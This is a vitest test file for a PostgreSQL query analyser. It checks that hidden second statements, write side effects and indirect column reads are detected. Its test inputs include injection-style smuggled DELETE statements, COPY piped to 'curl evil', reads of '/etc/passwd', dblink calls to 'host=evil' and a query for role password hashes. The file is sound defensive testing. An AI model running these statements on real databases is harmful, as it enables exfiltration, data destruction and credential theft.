import { beforeAll, describe, expect, it } from 'vitest';
import { createPostgresqlDialect } from '../../../../src/adapters/dialects/postgresql/dialect.ts';
import type { Statement, StatementEffect } from '../../../../src/core/analysis/analysis.ts';
import type { Catalog } from '../../../../src/core/analysis/catalog.ts';
import type { Dialect } from '../../../../src/core/ports.ts';
import { demoCatalog } from './demo.ts';

let dialect: Dialect;
beforeAll(async () => {
  dialect = await createPostgresqlDialect();
});

const analyse = (sql: string, catalog: Catalog | undefined = demoCatalog): readonly Statement[] =>
  dialect.analyse(sql, catalog).statements;

function only(sql: string, catalog?: Catalog): Statement {
  const statements = analyse(sql, catalog);
  const [statement] = statements;
  if (statement === undefined || statements.length !== 1) throw new Error(`${statements.length} statements: ${sql}`);
  return statement;
}

describe('a second statement can’t hide', () => {
  it.each<[string, string, readonly string[]]>([
    ['behind a commit', 'commit; insert into product_lines values (1)', ['transaction', 'insert']],
    ['behind a comment', 'select 1 -- ;\n; delete from orders', ['query', 'delete']],
    ['behind a nested comment', 'select 1 /* /* */ ; */ ; delete from orders', ['query', 'delete']],
    ['behind a comment that only looks nested', 'select 1 /* -- */; delete from orders', ['query', 'delete']],
    ['behind a string that ends with a backslash', "select '\\'; delete from orders; --'", ['query', 'delete']],
    ['behind a doubled quote', "select 'it''s'; delete from orders", ['query', 'delete']],
    ['behind an escape string', "select E'\\''; delete from orders; --'", ['query', 'delete']],
    ['behind an escaped backslash', "select E'\\\\'; delete from orders; --'", ['query', 'delete']],
    ['behind a dollar quote', 'select $$;$$; delete from orders', ['query', 'delete']],
    ['behind a tagged dollar quote', 'select $a$ $b$ ; $a$; delete from orders; --$b$', ['query', 'delete']],
    ['behind a dollar in a name', 'select 1 as a$b$; delete from orders; --$b$', ['query', 'delete']],
    ['behind a quoted name', 'select 1 as ";"; delete from orders', ['query', 'delete']],
    ['behind a doubled quote in a name', 'select 1 as "a""; "; delete from orders', ['query', 'delete']],
    ['behind a Unicode-escaped name', 'select 1 as U&"\\003b"; delete from orders', ['query', 'delete']],
    ['behind a bit string', "select b'01'; delete from orders", ['query', 'delete']],
    ['behind a national string', "select n'\\'; delete from orders; --'", ['query', 'delete']],
    [
      'behind a string that goes on in the next line',
      "select 'a'\n'; select'; delete from orders",
      ['query', 'delete'],
    ],
    ['behind empty statements', ';;select 1;;;delete from orders;;', ['query', 'delete']],
    ['behind a broken one', 'selec 1; delete from orders', ['unknown', 'delete']],
    ['behind a bracket that is never closed', 'select (1; delete from orders', ['unknown', 'delete']],
    ['behind a bracket that was never opened', 'select 1); delete from orders', ['unknown', 'delete']],
    [
      'behind a routine’s body',
      'create function f() returns int begin atomic select 1; select 2; end; delete from orders',
      ['schema', 'delete'],
    ],
    ['behind BEGIN ATOMIC without a routine', 'begin atomic; delete from orders', ['unknown', 'delete']],
    [
      'behind a CASE in a routine’s body',
      'create procedure p() begin atomic select case when true then 1 end; end; delete from orders',
      ['schema', 'delete'],
    ],
    [
      'behind a routine in quotes',
      'create function f() returns int language sql as $$ select 1; $$; delete from orders',
      ['schema', 'delete'],
    ],
    [
      'inside a rule',
      'create rule r as on insert to orders do instead (delete from orders; delete from payments); select 1',
      ['schema', 'query'],
    ],
    ['behind SET', 'set work_mem = 1; delete from orders', ['session', 'delete']],
    ['behind a string with a NUL escape', "select E'\\000'; delete from orders", ['unknown', 'delete']],
    ['in the next line, where it is an alias to the database too', 'select 1\ndelete from orders', ['query']],
    ['in the next line without a separator', 'select 1 from orders\ndelete from orders', ['unknown']],
    ['behind an unfinished string', "select 1; select 'abc; delete from orders", ['query', 'unknown']],
    ['behind an unfinished comment', 'select 1; /* delete from orders', ['query', 'unknown']],
    ['behind an unfinished dollar quote', 'delete from orders; select $x$ $y$', ['delete', 'unknown']],
    ['behind an unfinished name', 'delete from orders; select "x', ['delete', 'unknown']],
    ['behind psql’s own commands', '\\o out.txt\ndelete from orders', ['unknown']],
    ['behind a copy from standard input', 'copy product_lines from stdin; delete from orders', ['copy', 'delete']],
  ])('%s', (_how, sql, kinds) => {
    expect(analyse(sql).map(({ kind }) => kind)).toEqual(kinds);
  });
});

describe('what only looks like a query isn’t called a read', () => {
  it.each<[string, string, StatementEffect]>([
    ['a data change in WITH', 'with x as (delete from orders returning *) select * from x', 'write'],
    ['a data change in WITH that nobody reads', 'with x as (delete from orders) select 1', 'write'],
    ['a data change in WITH RECURSIVE', 'with recursive x as (delete from orders returning 1) select 1', 'write'],
    [
      'a data change in the WITH of a WITH',
      'with y as (with x as (insert into product_lines values (1) returning 1) select * from x) select 1',
      'write',
    ],
    [
      'a data change behind a read in WITH',
      'with a as (select 1), b as (update orders set status = null returning 1) select * from a',
      'write',
    ],
    [
      'a merge in WITH',
      'with m as (merge into orders o using customers c on false when matched then delete returning 1) select * from m',
      'write',
    ],
    ['a data change in the WITH of VALUES', 'with x as (delete from orders returning 1) values (1)', 'write'],
    ['SELECT INTO', 'select * into copied from customers', 'schema'],
    ['SELECT INTO a temporary table', 'select 1 as a into temp copied', 'schema'],
    ['SELECT INTO in a union', 'select 1 as a into copied union select 2', 'schema'],
    ['a row lock', 'select * from orders for update', 'transaction'],
    ['a shared row lock', 'select * from orders for key share nowait', 'transaction'],
    ['a row lock in a subquery', 'select (select order_id from orders limit 1 for update skip locked)', 'transaction'],
    ['a row lock in a derived table', 'select * from (select * from orders for no key update) x', 'transaction'],
    ['a row lock in WITH', 'with x as (select * from orders for share) select 1', 'transaction'],
    ['EXPLAIN that runs', 'explain analyze delete from orders', 'write'],
    ['EXPLAIN that runs, by its option', 'explain (verbose, analyze) delete from orders', 'write'],
    ['EXPLAIN that runs, by a word for true', 'explain (analyze on) delete from orders', 'write'],
    ['EXPLAIN that runs, by the last of two options', 'explain (analyze off, analyze 1) delete from orders', 'write'],
    ['EXPLAIN of a table that is made', 'explain analyze create table x as select 1', 'schema'],
    [
      'EXPLAIN of what planning works out',
      'explain select 1 from orders where order_id = txid_current()',
      'transaction',
    ],
    ['EXPLAIN of a table that would be made', 'explain create temp table x as select 1', 'schema'],
    ['EXPLAIN of a prepared statement', 'explain analyze execute something', 'unknown'],
    ['a sequence’s next value', "select nextval('numbers')", 'write'],
    ['a sequence’s next value, named in full', "select pg_catalog.nextval('numbers')", 'write'],
    ['a sequence’s next value, in odd letters', "select NextVal('numbers')", 'write'],
    ['a sequence’s next value, escaped', 'select U&"\\006eextval"(\'numbers\')', 'write'],
    ['a sequence’s next value in a condition', "select 1 from orders where order_id = nextval('numbers')", 'write'],
    ['a sequence’s next value in FROM', "select * from nextval('numbers')", 'write'],
    ['a sequence’s next value in a LIMIT', "select 1 limit nextval('numbers')", 'write'],
    ['a sequence’s next value in ORDER BY', "select 1 from orders order by nextval('numbers')", 'write'],
    [
      'a sequence’s next value in a window',
      "select sum(order_id) over (partition by nextval('numbers')) from orders",
      'write',
    ],
    [
      'a sequence’s next value in a filter',
      "select count(*) filter (where nextval('numbers') > 0) from orders",
      'write',
    ],
    ['a sequence’s next value in VALUES', "values (nextval('numbers'))", 'write'],
    ['a sequence’s next value in a CASE', "select case when true then nextval('numbers') end", 'write'],
    ['a sequence’s next value in an array', "select array[nextval('numbers')]", 'write'],
    ['a sequence’s next value in a sample', "select 1 from orders tablesample system (nextval('numbers'))", 'write'],
    ['a sequence’s next value in JSON', "select json_object('a': nextval('numbers'))", 'write'],
    [
      'a sequence’s next value in JSON_TABLE',
      "select 1 from json_table(nextval('numbers')::text::jsonb, '$' columns (a int path '$'))",
      'write',
    ],
    ['a sequence’s next value in XML', "select xmlelement(name x, nextval('numbers'))", 'write'],
    ['a sequence’s next value in COPY', "copy (select nextval('numbers')) to stdout", 'write'],
    [
      'a sequence’s next value in GROUPING SETS',
      "select 1 from orders group by grouping sets ((nextval('numbers')))",
      'write',
    ],
    [
      'a sequence’s next value in a frame',
      "select sum(order_id) over (rows nextval('numbers') preceding) from orders",
      'write',
    ],
    ['a sequence’s next value in a named argument', "select make_interval(days => nextval('numbers')::int)", 'write'],
    ['a sequence’s next value in DISTINCT ON', "select distinct on (nextval('numbers')) 1 from orders", 'write'],
    ['a sequence’s next value in a lateral', "select * from orders, lateral (select nextval('numbers')) x", 'write'],
    ['a sequence’s value set', "select setval('numbers', 1)", 'write'],
    ['a setting changed by a function', "select set_config('work_mem', '1', false)", 'session'],
    ['the search path changed by a function', "select set_config('search_path', 'evil', false)", 'unknown'],
    ['the search path changed in odd letters', "select set_config('Search_Path', 'evil', false)", 'unknown'],
    ['a setting changed by a computed name', "select set_config('search' || '_path', 'evil', false)", 'unknown'],
    ['another session ended', 'select pg_terminate_backend(1)', 'external'],
    ['another session’s query cancelled', 'select pg_cancel_backend(1)', 'external'],
    ['the server’s files read', "select pg_read_file('/etc/passwd')", 'external'],
    ['the server’s folders listed', "select * from pg_ls_dir('/')", 'external'],
    ['a file made into a large object', "select lo_import('/etc/passwd')", 'external'],
    ['a large object written to a file', "select lo_export(1, '/tmp/x')", 'external'],
    ['a large object made', 'select lo_create(0)', 'write'],
    ['a large object removed', 'select lo_unlink(1)', 'write'],
    ['a large object opened', 'select lo_open(1, 131072)', 'write'],
    ['SQL in a string, run by XML', "select query_to_xml('delete from orders', true, true, '')", 'unknown'],
    ['a whole schema read by XML', "select schema_to_xml('hr', true, true, '')", 'unknown'],
    ['a table read by its name', "select table_to_xml('hr.employees', true, true, '')", 'unknown'],
    ['SQL in a string, run by text search', "select * from ts_stat('select body from support_tickets')", 'unknown'],
    [
      'SQL in a string, run for a rewrite',
      "select ts_rewrite('a'::tsquery, 'select body, body from support_tickets')",
      'unknown',
    ],
    ['another server asked', "select * from dblink('host=evil', 'select 1') as t(a int)", 'unknown'],
    ['another server told', "select dblink_exec('host=evil', 'drop table x')", 'unknown'],
    ['an advisory lock', 'select pg_advisory_lock(1)', 'session'],
    ['an advisory lock of the transaction', 'select pg_try_advisory_xact_lock(1)', 'transaction'],
    ['a transaction number taken', 'select txid_current()', 'transaction'],
    ['a transaction number taken, by its new name', 'select pg_current_xact_id()', 'transaction'],
    ['a notification', "select pg_notify('x', 'y')", 'external'],
    ['the log of changes consumed', "select * from pg_logical_slot_get_changes('s', null, null)", 'external'],
    ['the configuration reloaded', 'select pg_reload_conf()', 'external'],
    ['statistics reset', 'select pg_stat_reset()', 'external'],
    ['a wait', 'select pg_sleep(10)', 'session'],
    ['chance', 'select random()', 'session'],
    ['the checks of a type that a string names', "select pg_input_is_valid('x', 'public.positive')", 'unknown'],
    ['a volatile function of users', "select add_region('x')", 'unknown'],
    ['a volatile function of users, named in full', "select public.add_region('x')", 'unknown'],
    ['a function that runs with its owner’s rights', 'select everyone_paid()', 'unknown'],
    ['a function nobody knows', 'select frobnicate(1)', 'unknown'],
    ['a function of a schema nobody knows', 'select evil.lower(full_name) from customers', 'unknown'],
    ['a function in capitals and quotes', 'select "LOWER"(full_name) from customers', 'unknown'],
    ['an operator of users', 'select 1 operator(public.+) 2', 'unknown'],
    ['an operator nobody knows', 'select 1 <=> 2', 'unknown'],
    ['an operator of users behind ANY', 'select 1 operator(public.=) any (array[1])', 'unknown'],
    ['an operator of users in a subquery’s test', 'select 1 operator(public.=) any (select 1)', 'unknown'],
    ['an operator of users in ORDER BY', 'select 1 from orders order by order_id using operator(public.<)', 'unknown'],
    ['a conversion to a type of users', "select 'x'::public.positive", 'unknown'],
    [
      'a conversion to a type of users in a column list',
      "select * from jsonb_to_record('{}') as t(a public.positive)",
      'unknown',
    ],
    ['a conversion to a type of users in JSON', "select json_value('{}', '$.a' returning public.positive)", 'unknown'],
    ['a conversion to a table’s row', 'select null::customers', 'unknown'],
    ['a sampling method of users', 'select * from orders tablesample public.evil (1)', 'unknown'],
    ['a procedure call', 'call refresh()', 'unknown'],
    ['an anonymous block', 'do $$ begin delete from orders; end $$', 'write'],
    ['an anonymous block that puts SQL together', "do $$ begin execute 'delete from orders'; end $$", 'unknown'],
    ['a prepared statement', 'execute x(1)', 'unknown'],
    ['the preparation of a write', 'prepare x as delete from orders', 'write'],
    ['the preparation of a read', 'prepare x as select 1', 'session'],
    ['a cursor', 'declare c cursor for select 1', 'session'],
    ['a fetch from a cursor nobody saw', 'fetch all from c', 'unknown'],
    ['COPY to a program', "copy customers to program 'curl evil'", 'external'],
    ['COPY to a file', "copy (select 1) to '/tmp/x'", 'external'],
    ['COPY from a file', "copy customers from '/tmp/x'", 'external'],
    ['COPY of a data change', 'copy (delete from orders returning *) to stdout', 'write'],
    ['a lock on a table', 'lock table orders', 'transaction'],
    ['LISTEN', 'listen x', 'session'],
    ['NOTIFY', "notify x, 'y'", 'external'],
    ['LOAD', "load 'evil'", 'external'],
    ['a checkpoint', 'checkpoint', 'external'],
    ['a change of role', 'set role postgres', 'privilege'],
    ['a change of user', 'set session authorization postgres', 'privilege'],
    ['a change of the search path', 'set search_path = evil', 'session'],
    ['a transaction made writable', 'set transaction read write', 'transaction'],
    ['a session made writable', 'set session characteristics as transaction read write', 'session'],
    ['a system setting', "alter system set work_mem = '1MB'", 'external'],
    ['an extension', 'create extension dblink', 'external'],
    ['a subscription', "create subscription s connection 'x' publication p", 'external'],
    ['a grant', 'grant select on customers to public', 'privilege'],
    ['row security turned off', 'alter table customers disable row level security', 'privilege'],
    ['a new owner', 'alter table customers owner to evil', 'privilege'],
    ['a refresh of stored rows', 'refresh materialized view x', 'write'],
    ['an emptied table', 'truncate orders', 'write'],
  ])('%s', (_what, sql, effect) => {
    expect(only(sql).effect).toBe(effect);
  });
});

describe('what changes the ground under later statements is not understood', () => {
  it.each([
    'set search_path = public, evil',
    "set local search_path = 'evil'",
    "set schema 'evil'",
    'set role evil',
    'reset role',
    'set session_replication_role = replica',
    'set standard_conforming_strings = off',
    "set names 'latin1'",
    'set row_security = off',
    'set transaction read write',
    'set default_transaction_read_only = off',
    'set statement_timeout = 0',
    'reset all',
    'discard all',
    'truncate orders cascade',
    'delete from orders where current of c',
  ])('%s', (sql) => {
    expect(only(sql)).toMatchObject({ understood: false });
  });
});

const all = (table: string) =>
  [...(demoCatalog.tables.find(({ name }) => name === table)?.columns ?? [])].map(({ name }) => name).sort();

describe('a table or column can’t be read unseen', () => {
  const cases: readonly (readonly [string, string, Readonly<Record<string, readonly string[] | null>>])[] = [
    [
      'by a join in brackets',
      'select 1 from (orders join (customers natural join support_tickets) on true)',
      { orders: [], customers: ['customer_id'], support_tickets: ['customer_id'] },
    ],
    [
      'behind a comma after a join',
      'select e.salary from orders o join customers c on (true), hr.employees e',
      { orders: [], customers: [], employees: ['salary'] },
    ],
    [
      'by TABLE',
      'select * from product_lines union all (table product_lines)',
      { product_lines: ['name', 'product_line_id'] },
    ],
    ['by TABLE in a subquery', 'select (table product_lines) is null', { product_lines: ['name', 'product_line_id'] }],
    ['by ONLY', 'select name from only (product_lines)', { product_lines: ['name'] }],
    [
      'by a star after a name',
      'select count(*), p.* from product_lines p group by 2, 3',
      { product_lines: ['name', 'product_line_id'] },
    ],
    ['by letters in another case', 'SELECT EMAIL FROM CUSTOMERS', { customers: ['email'] }],
    ['by Unicode escapes', 'select U&"\\0065mail" from U&"c!0075stomers" uescape \'!\'', { customers: ['email'] }],
    ['by a column’s new name', 'select z from customers as c(a, b, z)', { customers: ['email'] }],
    [
      'by a column’s new name in a derived table',
      'select y from (select phone, email from customers) as d(x, y) where x is null',
      { customers: ['email', 'phone'] },
    ],
    [
      'by a WITH that takes a table’s name in vain',
      'with customers as (select 1 as email) select email from public.customers',
      { customers: ['email'] },
    ],
    [
      'by a WITH that reads the table of its own name',
      'with customers as (select email from customers) select email from customers',
      { customers: ['email'] },
    ],
    ['by an alias that is another table’s name', 'select orders.email from customers orders', { customers: ['email'] }],
    ['by a schema in front', 'select customers.email from public.customers', { customers: ['email'] }],
    ['by a whole row', 'select c from customers c', { customers: all('customers') }],
    ['by a whole row made text', 'select customers::text from customers', { customers: all('customers') }],
    ['by a whole row made JSON', 'select to_json(c) from customers c', { customers: all('customers') }],
    [
      'by a whole row made JSON in SQL’s own syntax',
      'select json_arrayagg(c) from customers c',
      { customers: all('customers') },
    ],
    ['by a whole row in an aggregate', 'select array_agg(c) from customers c', { customers: all('customers') }],
    [
      'by a whole row in a comparison',
      'select 1 from customers a, customers b where a = b',
      { customers: all('customers') },
    ],
    ['by a whole row in a test', 'select 1 from customers c where c is not null', { customers: all('customers') }],
    ['by a whole row in a row', 'select row(c.*, 1) from customers c', { customers: all('customers') }],
    ['by a whole row in an outer query', 'select (select c) from customers c', { customers: all('customers') }],
    ['by a whole row in ORDER BY', 'select 1 from customers c order by c', { customers: all('customers') }],
    ['by a field of a whole row', 'select (c).email from customers c', { customers: ['email'] }],
    ['by a star of a whole row', 'select (p).* from product_lines p', { product_lines: ['name', 'product_line_id'] }],
    ['by NATURAL', 'select 1 from orders natural join payments', { orders: ['order_id'], payments: ['order_id'] }],
    [
      'by USING',
      'select 1 from orders join payments using (order_id)',
      { orders: ['order_id'], payments: ['order_id'] },
    ],
    [
      'by a subquery in LIMIT',
      'select 1 from orders limit (select max(salary) from hr.employees)',
      { orders: [], employees: ['salary'] },
    ],
    [
      'by a subquery in ORDER BY',
      'select 1 order by (select salary from hr.employees limit 1)',
      { employees: ['salary'] },
    ],
    ['by a subquery in VALUES', 'values ((select salary from hr.employees limit 1))', { employees: ['salary'] }],
    [
      'by a subquery in a function’s argument',
      'select lower((select national_id from hr.employees limit 1))',
      { employees: ['national_id'] },
    ],
    [
      'by a subquery in GROUP BY',
      'select count(*) from orders group by (select salary from hr.employees limit 1)',
      { orders: [], employees: ['salary'] },
    ],
    [
      'by a subquery in a join’s condition',
      'select 1 from orders o join payments p on p.amount > (select max(salary) from hr.employees)',
      { orders: [], payments: ['amount'], employees: ['salary'] },
    ],
    [
      'by a subquery in a window',
      'select sum(order_id) over (order by (select salary from hr.employees limit 1)) from orders',
      { orders: ['order_id'], employees: ['salary'] },
    ],
    [
      'by a subquery in a sample',
      'select 1 from orders tablesample system ((select 1 from hr.employees where salary > 0 limit 1))',
      { orders: [], employees: ['salary'] },
    ],
    [
      'by a subquery in an index',
      'select tags[(select salary::int from hr.employees limit 1)] from "Mixed Case"',
      { 'Mixed Case': ['tags'], employees: ['salary'] },
    ],
    [
      'by a comparison that leaks order',
      'select full_name from hr.employees order by salary',
      { employees: ['full_name', 'salary'] },
    ],
    [
      'by the condition of a data change',
      'update orders set status = null where order_id in (select employee_id from hr.employees where salary > 9)',
      { orders: ['order_id'], employees: ['employee_id', 'salary'] },
    ],
    ['by what a data change returns', 'delete from customers returning email', { customers: ['email'] }],
    [
      'by what a data change returns of the old row',
      'update customers set email = null returning old.email',
      { customers: ['email'] },
    ],
    [
      'by renaming the old row',
      'update customers set email = null returning with (old as before) before.phone',
      { customers: ['phone'] },
    ],
    [
      'by what an upsert compares',
      "insert into customers as c (customer_id) values (1) on conflict (customer_id) do update set region = c.segment where c.phone = ''",
      { customers: ['customer_id', 'phone', 'segment'] },
    ],
    ['by COPY', 'copy customers to stdout', { customers: all('customers') }],
    ['by COPY of some columns', 'copy customers (email) to stdout', { customers: ['email'] }],
    ['by EXPLAIN', 'explain select email from customers', { customers: ['email'] }],
    ['by PREPARE', 'prepare x as select email from customers', { customers: ['email'] }],
    ['by a cursor', 'declare c cursor for select email from customers', { customers: ['email'] }],
    ['by a view that is made', 'create view v as select email from customers', { customers: ['email'] }],
    ['by a table that is made', 'create table v as select email from customers', { customers: ['email'] }],
    [
      'by EXISTS with a star',
      'select 1 where exists (select * from product_lines)',
      { product_lines: ['name', 'product_line_id'] },
    ],
    [
      'by a recursion',
      'with recursive r as (select manager_id as id from hr.employees union select e.employee_id from hr.employees e, r where e.salary = r.id) select 1 from r',
      { employees: ['employee_id', 'manager_id', 'salary'] },
    ],
    [
      'by JSON_TABLE',
      "select t.a from \"Mixed Case\" m, json_table(m.details, '$' columns (a int path '$.a')) t",
      { 'Mixed Case': ['details'] },
    ],
    [
      'by a MERGE',
      'merge into orders o using (select customer_id, email from customers) c on o.customer_id = c.customer_id when matched and c.email is null then delete',
      { orders: ['customer_id'], customers: ['customer_id', 'email'] },
    ],
  ];

  it.each(cases)('%s: %s', (_how, sql, expected) => {
    const { reads, obstacles } = only(sql);
    expect(obstacles).toEqual([]);
    expect(Object.fromEntries(reads.map(({ table, columns }) => [table, columns]))).toEqual(expected);
  });
});

describe('a name that leads nowhere known is not understood', () => {
  it.each([
    ['a table that isn’t in the catalog', 'select * from secrets'],
    ['a table of a schema outside the search path', 'select * from employees'],
    ['a table of another database', 'select * from other.public.customers'],
    ['a system table', 'select rolpassword from pg_authid'],
    ['a system table, named in full', 'select * from pg_catalog.pg_shadow'],
    ['the information schema', 'select * from information_schema.columns'],
    ['a column that isn’t there', 'select password from customers'],
    ['a column of the wrong table', 'select c.salary from customers c'],
    ['a column hidden behind its new name', 'select email from customers as c(a, b, c)'],
    ['a table hidden behind its alias', 'select customers.email from customers c'],
    ['a table hidden behind a join’s alias', 'select c.email from (customers c join orders o using (customer_id)) j'],
    ['a derived table that isn’t lateral', 'select 1 from customers c, (select c.email) x'],
    ['a column of two tables', 'select full_name from customers, hr.employees'],
    ['a function called like a column', 'select c.add_region from customers c'],
    ['a function called like a field', 'select (c).add_region from customers c'],
    ['a function called like a field of a record', 'select (details).add_region from "Mixed Case"'],
    ['a name in the wrong case', 'select "EMAIL" from customers'],
    ['a quoted name with a space at its end', 'select "email " from customers'],
    ['a letter that only looks the same', 'select еmail from customers'],
    ['a target that isn’t in the catalog', 'delete from secrets'],
    ['a target that WITH seems to make', 'with made as (select 1) delete from made'],
    ['a column set that isn’t there', 'update customers set password = null'],
    ['more names than columns', 'select 1 from product_lines as p(a, b, c)'],
    ['a star of nothing', 'select x.* from customers c'],
    ['an outer name inside a derived table', 'select (select 1 from (select o.status) x) from customers c'],
  ])('%s: %s', (_what, sql) => {
    const statement = only(sql);
    expect(statement.understood).toBe(false);
    expect(statement.obstacles[0]?.message).toMatch(/\.$/);
  });
});

describe('a view can’t hide what it does', () => {
  const view = (
    name: string,
    definition: string | undefined,
    columns: readonly string[],
  ): Catalog['tables'][number] => ({
    schema: 'public',
    name,
    kind: 'view',
    rows: null,
    columns: columns.map((column) => ({ name: column, type: 'text', nullable: true, primaryKey: false })),
    ...(definition === undefined ? {} : { definition }),
  });
  const catalog: Catalog = {
    ...demoCatalog,
    tables: [
      ...demoCatalog.tables,
      view('contacts', ' SELECT c.full_name AS name, c.email FROM customers c WHERE c.marketing_consent;', [
        'name',
        'email',
      ]),
      view('contact_names', 'select name from contacts', ['name']),
      view('numbered', "select nextval('numbers') as n", ['n']),
      view('private', 'select everyone_paid() as total', ['total']),
      view('opaque', undefined, ['x']),
      view('broken', 'selec 1', ['x']),
      view('circle', 'select x from circle', ['x']),
      view('other', 'select 1 as a, 2 as b', ['a']),
      view('changing', 'delete from orders returning status', ['x']),
      view('starred', 'select * from product_lines', ['product_line_id', 'name']),
    ],
  };
  const readsOf = (sql: string) =>
    Object.fromEntries(only(sql, catalog).reads.map(({ table, columns }) => [table, columns]));

  it('reads itself and what it is made of', () => {
    expect(readsOf('select email from contacts')).toEqual({
      contacts: ['email'],
      customers: ['email', 'marketing_consent'],
    });
    expect(only('select email as e from contacts', catalog).outputs).toEqual([
      {
        name: 'e',
        transform: 'identity',
        sources: [
          { schema: 'public', table: 'contacts', column: 'email' },
          { schema: 'public', table: 'customers', column: 'email' },
        ],
      },
    ]);
  });
  it('reads what the views under it are made of', () => {
    expect(readsOf('select n.name from contact_names n')).toEqual({
      contact_names: ['name'],
      contacts: ['name'],
      customers: ['full_name', 'marketing_consent'],
    });
  });
  it('reads all of it by a star', () => {
    expect(readsOf('select * from starred')).toEqual({
      starred: ['name', 'product_line_id'],
      product_lines: ['name', 'product_line_id'],
    });
  });
  it('is as strong as its functions', () => {
    expect(only('select n from numbered', catalog)).toMatchObject({ effect: 'write', understood: true });
    expect(only('select 1 from private', catalog)).toMatchObject({ effect: 'unknown', understood: false });
  });
  it.each(['opaque', 'broken', 'circle', 'other', 'changing'])(
    'is not understood where it can’t be read: %s',
    (name) => {
      expect(only(`select 1 from ${name}`, catalog)).toMatchObject({ understood: false });
    },
  );
});
